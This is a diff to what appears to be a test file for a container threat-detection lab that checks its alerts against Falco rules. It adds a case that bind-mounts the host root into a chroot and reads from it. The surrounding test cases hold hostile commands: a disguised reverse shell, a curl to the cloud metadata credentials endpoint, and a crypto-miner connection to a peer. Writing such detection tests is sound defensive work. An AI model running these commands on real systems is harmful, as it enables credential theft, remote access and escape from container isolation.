@@ -65,6 +65,13 @@ REVERSE_SHELL = (f"cp /bin/sh /tmp/nginx && /tmp/nginx -c "
 METADATA_GET = f"curl -s --max-time 20 http://{METADATA_IP}/latest/meta-data/iam/security-credentials/ > /dev/null"
 MINER = f"{PYTHON} -m kubeguard.lab.miner -o stratum+tcp://{PEER}:3333 -u kg-wallet --max-cpu 100 --shares 1"
 
+# The host's / bind-mounted at /host of a container whose own root is a chroot of the machine's /usr (what a
+# hostPath volume of / looks like from inside): a read below /host/.
+HOST_MOUNT = ("mkdir -p /tmp/kg-root/usr /tmp/kg-root/host && mount --rbind /usr /tmp/kg-root/usr && "
+              "ln -s usr/bin /tmp/kg-root/bin && ln -s usr/lib /tmp/kg-root/lib && "
+              "ln -s usr/lib64 /tmp/kg-root/lib64 && "
+              "mount --bind / /tmp/kg-root/host && chroot /tmp/kg-root cat /host/etc/hostname > /dev/null")
+
 # (case id, rule, rules Falco also fires on it, peer (kind, address, port) or None, behaviour, pod namespace)
 # "{pod}" in a peer address or behaviour is the pod's own address (eth0, 10.200.0.0/13).
 CASES = [
@@ -90,6 +97,7 @@ CASES = [
     # bash's /dev/tcp connect is a shell's network activity too
     ("reverse-shell-web", "Reverse Shell from Web Server", ("System procs network activity",),
      ("listen", PEER, 4444), REVERSE_SHELL, "default"),
+    ("host-path-read", "Container Access to Host Sensitive Paths", (), None, HOST_MOUNT, "default"),
 ]
 
 
